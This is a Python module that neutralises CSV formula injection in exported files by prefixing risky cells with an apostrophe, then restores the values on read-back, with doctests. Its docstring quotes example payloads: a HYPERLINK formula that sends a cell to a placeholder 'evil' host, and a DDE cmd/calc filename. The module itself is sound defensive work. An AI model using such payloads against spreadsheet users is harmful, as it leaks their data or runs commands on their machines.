"""Cells of the CSV files medtl writes, made safe to open in a spreadsheet, and read back as written.

A CSV is opened by people in Excel or LibreOffice Calc, and both run a cell that starts with ``=``
as a formula: a reviewer's comment ``=HYPERLINK("http://evil/?"&A1, "details")`` or a file named
``=cmd|' /C calc'!A0.dcm`` would run on the machine of whoever opens the export (CSV injection,
OWASP). Every CSV medtl writes goes through :func:`csv_text` (or :func:`csv_line` for files
appended chunk by chunk), which neutralises such a cell the way OWASP describes: a text cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a NUL gets a leading
apostrophe, which spreadsheets read as "this cell is text". Numbers are left alone (``-0.25`` is a
number, not a formula), and so is every other cell.

The apostrophe is part of the file, so medtl strips it again when it reads its own files
(:func:`plain_cell`; :func:`read_dicts` for a whole file): a path ``=scan.dcm`` written as
``'=scan.dcm`` is found again as ``=scan.dcm``. A text that itself starts with an apostrophe is
written with a second one, so every value reads back exactly as it was.

This module is ground: it imports nothing from medtl.

>>> safe_cell('=HYPERLINK("http://x")'), safe_cell("-0.25"), safe_cell(-0.25), safe_cell("a-b")
('\\'=HYPERLINK("http://x")', '-0.25', -0.25, 'a-b')
>>> plain_cell(safe_cell("=1+1")), plain_cell(safe_cell("'quoted")), safe_cell("'quoted")
('=1+1', "'quoted", "''quoted")
>>> csv_text([{"comment": "@SUM(A1)", "p": 0.5}], ["comment", "p"])
"comment,p\\n'@SUM(A1),0.5\\n"
"""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["FORMULA_STARTS", "safe_cell", "plain_cell", "csv_text", "csv_line", "read_dicts"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP, ASVS 1.2.10).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?|[+-]?(inf|nan|infinity)", re.IGNORECASE)


def safe_cell(value: Any) -> Any:
    """``value`` as it may stand in a CSV cell: a text that a spreadsheet would run as a formula
    (or that starts with an apostrophe) gets a leading ``'``; numbers and other text are unchanged.

    >>> [safe_cell(v) for v in ["+1 555 0100", "+1", "@home", "\\tx", "ok", None, 3]]
    ["'+1 555 0100", '+1', "'@home", "'\\tx", 'ok', None, 3]
    """
    if not isinstance(value, str) or not value:
        return value
    if value[0] == "'" or (value[0] in FORMULA_STARTS and not _NUMBER.fullmatch(value)):
        return "'" + value
    return value


def plain_cell(text: str) -> str:
    """The value a cell written by :func:`safe_cell` stood for (its apostrophe removed).

    >>> plain_cell("'=A1"), plain_cell("''x"), plain_cell("'bare"), plain_cell("-3")
    ('=A1', "'x", "'bare", '-3')
    """
    if len(text) > 1 and text[0] == "'" and (text[1] == "'" or text[1] in FORMULA_STARTS):
        return text[1:]
    return text


def csv_line(values: Iterable[Any]) -> str:
    """One CSV record (``\\n``-terminated) of ``values``, each made safe: how files appended chunk by
    chunk (``predictions.csv``) are written, byte for byte as :func:`csv_text` would write them.

    >>> csv_line(["a.dcm", 0.5, "-bad"])
    "a.dcm,0.5,'-bad\\n"
    """
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow([safe_cell(v) for v in values])
    return buf.getvalue()


def csv_text(rows: Iterable[dict[str, Any]], columns: Sequence[str]) -> str:
    """A whole CSV (header and one record per dict, in ``columns`` order; ``None`` and absent keys
    as empty cells), every cell made safe.

    >>> csv_text([{"a": 1}, {"a": None, "b": "=x"}], ["a", "b"])
    "a,b\\n1,\\n,'=x\\n"
    """
    parts = [csv_line(columns)]
    parts.extend(csv_line("" if r.get(c) is None else r.get(c) for c in columns) for r in rows)
    return "".join(parts)


def read_dicts(path: str | os.PathLike) -> list[dict[str, str]]:
    """The rows of a CSV medtl wrote, as ``{column: text}`` with every cell read back as it was
    written (:func:`plain_cell`). For files a user gives medtl, use the strict
    :func:`medtl.data.csvfile.read_csv_rows` (which also reads cells back this way).

    >>> import pathlib, tempfile
    >>> p = pathlib.Path(tempfile.mkdtemp()) / "t.csv"
    >>> _ = p.write_text(csv_text([{"path": "=x.png"}], ["path"]))
    >>> read_dicts(p)
    [{'path': '=x.png'}]
    """
    with open(path, newline="", encoding="utf-8") as fh:
        return [{k: plain_cell(v) if isinstance(v, str) else v for k, v in row.items()} for row in csv.DictReader(fh)]
